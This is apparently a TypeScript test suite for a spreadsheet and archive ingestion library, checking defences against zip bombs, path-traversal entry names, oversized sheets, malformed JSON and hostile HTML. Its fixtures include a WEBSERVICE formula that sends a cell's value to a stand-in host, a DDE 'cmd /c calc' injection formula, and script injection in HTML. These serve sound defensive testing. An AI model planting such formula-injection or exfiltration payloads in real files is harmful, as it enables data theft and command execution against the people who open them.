import * as XLSX from '@e965/xlsx';
import fc from 'fast-check';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { AppError } from '../../src/core/app-error';
import { readZipDirectory } from '../../src/ingest/archive/zip-directory';
import { listCandidates } from '../../src/ingest/candidates';
import { readColumns } from '../../src/ingest/columns/arrow-bytes';
import { htmlTables } from '../../src/ingest/web/html-tables';
import { unpackFile } from '../../src/jobs/unpack-files';
import { makeXlsx, wholeParts } from '../support/make-book';

/** The code of the error, or null when the file was read. */
async function refusal(work: Promise<unknown>): Promise<string | null> {
  try {
    await work;
    return null;
  } catch (error) {
    if (!(error instanceof AppError)) throw error;
    return error.code;
  }
}

/** A zip whose directory claims another size for its first entry. */
function claiming(zip: Uint8Array, bytes: number): Uint8Array {
  const copy = zip.slice();
  const view = new DataView(copy.buffer);
  const at = copy.findIndex((_, i) => i + 4 <= copy.length && view.getUint32(i, true) === 0x02014b50);
  view.setUint32(at + 24, bytes, true);
  return copy;
}

const good = () =>
  makeXlsx({
    shared: '<si><t>a</t></si>',
    sheets: [{ name: 'a', rows: '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><v>2</v></c></row>' }],
  });

describe('a bomb', () => {
  it('is refused by what its directory claims, before anything is unpacked', async () => {
    expect(await refusal(wholeParts('bom.xlsx', claiming(good(), 100_000_000)))).toBe('file-bomb');
    expect(await refusal(listCandidates({ name: 'bom.zip', bytes: claiming(good(), 0xfffffffe) }))).toMatch(/file-(bomb|damaged)/);
  });

  it('that claims less than it holds is stopped where the claim ends', async () => {
    const zip = zipSync({ 'a.csv': new Uint8Array(3_000_000) }, { level: 9 });
    const results = [];
    for await (const one of unpackFile({ name: 'a.zip', bytes: claiming(zip, 1000) })) results.push(one);
    expect(results).toMatchObject([{ kind: 'failed', error: { code: 'file-damaged' } }]);
  });

  it('of very many entries is refused', async () => {
    const many = zipSync(Object.fromEntries(Array.from({ length: 20_001 }, (_, i) => [`${i}.csv`, new Uint8Array(0)])), { level: 0 });
    expect(await refusal(readZipDirectory({ name: 'a.zip', bytes: many }))).toBe('file-bomb');
  });

  it('of zips in zips is opened one level deep', async () => {
    const pack = (files: Record<string, Uint8Array>) => zipSync(files, { level: 0 });
    const inner = pack({ 'c.csv': strToU8('a,b\n1,2\n') });
    const outer = pack({
      'ngoài/trong.zip': pack({ 'b.csv': strToU8('a,b\n'), 'sâu.zip': inner }),
      '../../a.csv': strToU8('x,y\n'),
      'ảnh.png': strToU8('x'),
    });
    const results = [];
    for await (const one of unpackFile({ name: 'g.zip', bytes: outer }))
      results.push(one.kind === 'file' ? one.file.name : one.kind === 'left' ? one.paths : [one.name, one.error.code]);
    expect(results).toEqual(['g.zip/ngoài/trong.zip/b.csv', ['g.zip/ngoài/trong.zip/sâu.zip', 'file-binary'], 'g.zip/a.csv', ['ảnh.png']]);
  });
});

describe('a sheet', () => {
  it('that claims a gigabyte gives the cells that are there', async () => {
    const book = makeXlsx({
      sheets: [
        {
          name: 'a',
          before: '<dimension ref="A1:XFD1048576"/>',
          rows: '<row r="1"><c r="A1"><v>1</v></c><c r="B1"><v>2</v></c></row><row r="1048576"><c r="A1048576"><v>3</v></c><c r="B1048576"><v>4</v></c></row><row r="99999999"><c r="A99999999"><v>5</v></c></row>',
          behind: '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        },
      ],
    });
    expect(book.length).toBeLessThan(10_000);
    const [part] = await wholeParts('a.xlsx', book);
    expect(part?.rows.map((row) => [row.line, row.cells.length])).toEqual([
      [1, 2],
      [2, 0],
      [1_048_576, 2],
      [1_048_577, 1],
    ]);
  });

  it('that claims a gigabyte in the old format gives the cells that are there', async () => {
    const book = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(
      book,
      XLSX.utils.aoa_to_sheet([
        ['a', 'b'],
        [1, 2],
      ]),
      'a',
    );
    const bytes = new Uint8Array(XLSX.write(book, { type: 'array', bookType: 'xls' }) as ArrayBuffer);
    // The record of the sheet's size: 65,536 rows of 256 columns.
    const at = bytes.findIndex((_, i) => bytes[i] === 0 && bytes[i + 1] === 2 && bytes[i + 2] === 14 && bytes[i + 3] === 0);
    expect(at).toBeGreaterThan(0);
    new DataView(bytes.buffer).setUint32(at + 8, 65_536, true);
    new DataView(bytes.buffer).setUint16(at + 14, 256, true);
    const [part] = await wholeParts('a', bytes);
    expect(part?.rows.map((row) => row.cells)).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
  });

  it('of hundreds of thousands of empty styled cells gives the few that are filled', async () => {
    const empty = Array.from({ length: 100 }, (_, i) => `<c r="${String.fromCharCode(65 + (i % 26))}1" s="3"/>`).join('');
    const rows = Array.from({ length: 1500 }, (_, i) => `<row r="${i + 2}">${empty}</row>`).join('');
    const [part] = await wholeParts(
      'a.xlsx',
      makeXlsx({ sheets: [{ name: 'a', rows: `<row r="1"><c r="A1"><v>1</v></c></row>${rows}` }] }),
    );
    expect(part?.rows).toEqual([{ line: 1, cells: ['1'], kinds: ['number'] }]);
  });

  it('of an ods whose last row and cell repeat for ever ends where its text ends', async () => {
    const content =
      '<office:document-content><office:body><office:spreadsheet><table:table table:name="T">' +
      '<table:table-row><table:table-cell office:value-type="string"><text:p>Tỷ lệ</text:p></table:table-cell><table:table-cell office:value-type="percentage" office:value="0.9872"><text:p>98,72%</text:p></table:table-cell>' +
      '<table:table-cell office:value-type="date" office:date-value="2020-06-30"/><table:table-cell table:number-columns-repeated="16381"/></table:table-row>' +
      '<table:table-row table:number-rows-repeated="3"><table:table-cell table:number-columns-spanned="2" office:value-type="float" office:value="1.5"/><table:covered-table-cell/></table:table-row>' +
      '<table:table-row table:number-rows-repeated="1048572"><table:table-cell table:number-columns-repeated="16384"/></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>';
    const ods = zipSync({ mimetype: strToU8('application/vnd.oasis.opendocument.spreadsheet'), 'content.xml': strToU8(content) });
    const [part] = await wholeParts('a.ods', ods);
    expect(part?.rows.map((row) => row.cells)).toEqual([['Tỷ lệ', '98.72%', '2020-06-30'], ['1.5'], ['1.5'], ['1.5']]);
    expect(part?.merges).toEqual([{ fromRow: 2, toRow: 2, fromColumn: 0, toColumn: 1 }]);
  });

  it('with formulas and links runs nothing and asks nobody', async () => {
    const formula = '=WEBSERVICE("https://x.invalid/"&A1)';
    const book = makeXlsx({
      sheets: [
        {
          name: 'a',
          rows: `<row r="1"><c r="A1" t="str"><f>${formula.slice(1).replaceAll('&', '&amp;')}</f><v>bí mật</v></c><c r="B1" t="e"><f>cmd|' /c calc'!A0</f><v>#REF!</v></c></row>`,
        },
      ],
      relations: '<Relationship Id="x" Type="x/externalLinkPath" Target="file:///c:/a.xlsx" TargetMode="External"/>',
    });
    const [part] = await wholeParts('a.xlsx', book);
    expect(part?.rows[0]?.cells).toEqual(['bí mật', '#REF!']);
    expect(part?.notes.map((note) => [note.code, note.rows])).toEqual([
      ['book-links', 1],
      ['formula-values', 2],
    ]);
  });
});

describe('JSON', () => {
  const cells = async (text: string, name = 'a.json') =>
    (await wholeParts(name, text)).map((part) => [part.name, part.rows.map((row) => row.cells)]);

  it('of a hundred thousand levels is one value', async () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    expect(await cells(`[{"a": 1, "sâu": ${deep}}]`)).toEqual([
      [
        '',
        [
          ['a', 'sâu'],
          ['1', deep],
        ],
      ],
    ]);
    expect(await refusal(wholeParts('a.json', deep))).toBe(null);
    expect(await refusal(wholeParts('a.json', `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`))).toBe(null);
  });

  it('keeps every digit, and flattens one level', async () => {
    expect(
      await cells('[{"id": 9007199254740993, "x": {"y": 1.10, "z": [1, 2]}, "t": null}, {"id": 1e3, "u": true, "s": "a\\nb"}]'),
    ).toEqual([
      [
        '',
        [
          ['id', 'x.y', 'x.z', 't', 'u', 's'],
          ['9007199254740993', '1.10', '[1, 2]', '', '', ''],
          ['1000', '', '', '', 'true', 'a\nb'],
        ],
      ],
    ]);
  });

  it.each([
    [
      'an object of arrays',
      '{"meta": {"n": 2}, "tỉnh": [{"a": 1}], "bộ": [{"b": 2}]}',
      [
        ['tỉnh', [['a'], ['1']]],
        ['bộ', [['b'], ['2']]],
      ],
    ],
    [
      'columns',
      '{"a": [1, 2], "b": ["x", null]}',
      [
        [
          '',
          [
            ['a', 'b'],
            ['1', 'x'],
            ['2', ''],
          ],
        ],
      ],
    ],
    [
      'records by key',
      '{"01": {"a": 1}, "02": {"a": 2}}',
      [
        [
          '',
          [
            ['_key', 'a'],
            ['01', '1'],
            ['02', '2'],
          ],
        ],
      ],
    ],
    [
      'rows',
      '[["a", "b"], [1, 2]]',
      [
        [
          '',
          [
            ['a', 'b'],
            ['1', '2'],
          ],
        ],
      ],
    ],
    [
      'lines',
      '{"a": 1}\n\n{"a": 2, "b": "x"}\n',
      [
        [
          '',
          [
            ['a', 'b'],
            ['1', ''],
            ['2', 'x'],
          ],
        ],
      ],
    ],
    [
      'one record',
      '{"a": 1, "b": "x"}',
      [
        [
          '',
          [
            ['a', 'b'],
            ['1', 'x'],
          ],
        ],
      ],
    ],
  ])('as %s becomes tables', async (_, text, tables) => expect(await cells(text)).toEqual(tables));

  it('that is broken says where; a broken line is put aside', async () => {
    expect(await refusal(wholeParts('a.json', '[{"a": 1},\n{"a": }]'))).toBe('file-json');
    const [part] = await wholeParts('a.ndjson', '{"a": 1}\n{"a": \n{"a": 3}\n');
    expect(part?.rows.map((row) => row.cells)).toEqual([['a'], ['1'], ['3']]);
    expect(part?.notes).toMatchObject([{ code: 'file-cut-records', rows: 1, examples: [{ row: 2, before: '{"a": ' }] }]);
  });
});

describe('a file cut at every tenth', () => {
  const grid = Array.from({ length: 300 }, (_, i) => [`dòng ${i}`, i, i / 7]);
  const book = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet(grid), 'a');
  const write = (bookType: XLSX.BookType) =>
    new Uint8Array(XLSX.write(book, { type: 'array', bookType, compression: true }) as ArrayBuffer);

  it.each(['xlsx', 'xlsb', 'ods', 'xls', 'xlml'] as const)('%s: refused with a reason, or read as far as it goes', async (bookType) => {
    const whole = write(bookType);
    for (let tenth = 1; tenth < 10; tenth++) {
      const code = await refusal(wholeParts('a', whole.slice(0, Math.floor((whole.length * tenth) / 10))));
      if (code !== null) expect(code, `${tenth}`).toMatch(/^file-(damaged|no-table|empty|binary)$/);
      // A zip has its directory at the end: nothing of a cut one can be trusted.
      if (bookType === 'xlsx' || bookType === 'xlsb' || bookType === 'ods') expect(code, `${tenth}`).toBe('file-damaged');
    }
  });

  it('gzip and Parquet: refused', async () => {
    const { gzipSync } = await import('fflate');
    const gz = gzipSync(strToU8(JSON.stringify(grid)));
    for (let tenth = 1; tenth < 10; tenth++) {
      const results = [];
      for await (const one of unpackFile({ name: 'a.csv.gz', bytes: gz.slice(0, Math.floor((gz.length * tenth) / 10)) })) results.push(one);
      expect(results).toMatchObject([{ kind: 'failed', error: { code: 'file-damaged' } }]);
    }
    expect(await refusal(readColumns({ name: 'a.parquet', bytes: strToU8('PAR1 this is none PAR1') }))).toBe('file-damaged');
    expect(await refusal(readColumns({ name: 'a.arrow', bytes: strToU8('ARROW1 this is none') }))).toBe('file-damaged');
  });

  it('with bytes changed anywhere: refused or read, never thrown otherwise', async () => {
    const wholes = (['xlsx', 'ods', 'xls', 'xlsb', 'xlml'] as const).map((bookType) => write(bookType));
    await fc.assert(
      fc.asyncProperty(
        fc.nat(4),
        fc.array(fc.tuple(fc.double({ min: 0, max: 0.999, noNaN: true }), fc.nat(255)), { minLength: 1, maxLength: 12 }),
        async (which, changes) => {
          const bytes = wholes[which]?.slice() ?? new Uint8Array();
          for (const [at, byte] of changes) bytes[Math.floor(at * bytes.length)] = byte;
          await refusal(wholeParts('a', bytes)).catch((error: unknown) => {
            // A file that is no longer recognised is a text like any other.
            if (!(error instanceof Error) || error.message !== 'a: a text') throw error;
          });
        },
      ),
      { numRuns: 60 },
    );
  });
});

describe('a password', () => {
  it('is told apart from damage', async () => {
    const container = XLSX.CFB.utils.cfb_new() as object;
    XLSX.CFB.utils.cfb_add(container, '/EncryptionInfo', new Uint8Array(64));
    XLSX.CFB.utils.cfb_add(container, '/EncryptedPackage', new Uint8Array(640));
    const bytes = new Uint8Array(XLSX.CFB.write(container, { type: 'buffer' }) as ArrayBuffer);
    expect(await refusal(wholeParts('khoa.xlsx', bytes))).toBe('file-locked');
  });
});

describe('HTML', () => {
  const rows = (html: string) => htmlTables(html).map((table) => table.rows.map((row) => row.cells));

  it('as Excel copies it: merged cells, exact numbers, text that looks like one', () => {
    const html = `Version:1.0\r\n<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><style>td {color: "<table>"}</style></head><body><!--StartFragment--><table>
      <tr><td colspan=2 rowspan="2">Đơn&nbsp;vị</td><td>Số</td></tr><tr><td x:num="1234.5678">1.235</td></tr>
      <tr><td style='mso-number-format:"\\@"'>007</td><td>a<br>b</td><td x:num="0.5" style='mso-number-format:Percent'>50%</td></tr></table><!--EndFragment--></body></html>`;
    expect(rows(html)).toEqual([
      [
        ['Đơn vị', '', 'Số'],
        ['', '', '1234.5678'],
        ['007', 'a\nb', '50%'],
      ],
    ]);
    const [table] = htmlTables(html);
    expect(table?.merges).toEqual([{ fromRow: 1, toRow: 2, fromColumn: 0, toColumn: 1 }]);
    expect(table?.rows.map((row) => row.kinds)).toEqual([undefined, [null, null, 'number'], ['text', null, null]]);
  });

  it('is never run, and what is left open ends with the text', () => {
    expect(
      rows('<table><tr><td>a<script>document.title="x"</script><td onclick="x>y">b<table><tr><td>c<td>d</table><tr><th>1&lt;2<td>&#7879;'),
    ).toEqual([
      [
        ['a', 'b c d'],
        ['1<2', 'ệ'],
      ],
    ]);
    expect(rows('<table>'.repeat(50_000) + '<td>'.repeat(50_000))).toEqual([]);
    expect(rows(`<table><tr><td colspan="999999999" rowspan="999999999">a</td></tr></table>`)[0]?.[0]?.length).toBe(1000);
  });

  it('whatever it is, takes no longer than its length', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.constantFrom(
            '<table>',
            '<tr>',
            '<td>',
            '</td>',
            '</tr>',
            '</table>',
            '<',
            '>',
            '"',
            '<td x="',
            'a',
            '<!--',
            '-->',
            '&',
            '<script>',
          ),
          { maxLength: 200 },
        ),
        (parts) => {
          htmlTables(parts.join(''));
        },
      ),
    );
  });
});
